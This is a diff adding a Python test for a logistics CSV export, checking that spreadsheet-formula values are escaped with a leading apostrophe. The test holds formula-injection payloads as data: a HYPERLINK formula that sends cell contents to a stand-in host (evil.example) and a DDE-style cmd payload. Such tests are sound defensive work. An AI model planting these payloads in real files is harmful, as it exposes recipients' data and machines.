@@ -160,3 +160,22 @@ def test_a_carrier_with_nothing_pending_gets_a_header_only_file(engine, shop, ou
     path = out / "jd_logistics" / "deliveries.csv"
     assert read_csv(path) == [] and path.read_text().startswith("order_id,carrier,")
     assert json.loads((out / "jd_logistics" / "manifest.json").read_text())["rows"] == 0
+
+
+def test_a_value_a_spreadsheet_would_run_as_a_formula_is_written_as_text(engine, shop, out):
+    """A customer's own name typed as `=HYPERLINK(…&B2, …)` ran in the carrier's spreadsheet
+    and sent other customers' cells out. Such a cell gets a leading apostrophe; a phone written
+    with + and a name with a hyphen stay as they are."""
+    formula = '=HYPERLINK("http://evil.example/?"&B2,"x")'
+    with engine.begin() as conn:
+        set_order(conn, 1, receiver_name=formula, receiver_address="-2+3+cmd|' /C calc'!A0")
+        set_order(conn, 2, receiver_name="Jean-Luc Picard", receiver_address="@SUM(A1)")
+    refresh_handoff(engine, shop, run_id="night-2")
+    export(engine, shop, out, run_id="night-2")
+    one, two = read_csv(out / "sf_express" / "deliveries.csv")
+    assert one["receiver_name"] == "'" + formula
+    assert one["receiver_address"] == "'-2+3+cmd|' /C calc'!A0"
+    assert two["receiver_address"] == "'@SUM(A1)"
+    assert two["receiver_name"] == "Jean-Luc Picard"
+    assert one["receiver_phone"] == two["receiver_phone"] == PERSONAL["receiver_phone"]
+    assert PERSONAL["receiver_phone"].startswith("+")
